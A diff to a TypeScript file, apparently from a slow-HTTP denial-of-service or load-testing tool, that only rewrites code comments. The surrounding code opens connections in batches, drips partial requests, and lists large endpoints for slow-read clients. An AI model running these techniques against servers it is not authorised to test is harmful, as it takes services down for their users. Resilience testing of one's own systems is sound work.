@@ -9,8 +9,7 @@ import type { Target } from "./target";
 const SLOW = 500;
 const IDLE = 2000;
 /**
- * Connections are opened so many at a time: neither the machine's own queue of them nor a burst of requests is meant
- * here.
+ * How many connections are opened at a time: the attack is not about the machine's accept queue or a burst of requests.
  */
 const BATCH = { size: 50, pauseMs: 50 };
 
@@ -32,7 +31,7 @@ async function openMany(
   return sockets;
 }
 
-/** Says a beginning on many connections, and then a little on each, all the time. */
+/** Sends the beginning of a request on many connections, then continues slowly on each. */
 function dripping(begin: (target: Target) => string, drop: string) {
   return async (target: Target, signal: AbortSignal): Promise<void> => {
     const sockets = await openMany(target, SLOW, signal);
@@ -44,7 +43,7 @@ function dripping(begin: (target: Target) => string, drop: string) {
   };
 }
 
-/** What is long, for readers who take nothing of it. */
+/** Large answers, for clients that do not read them. */
 const LONG = [
   "/docs/api",
   "/api/v1/openapi.json",
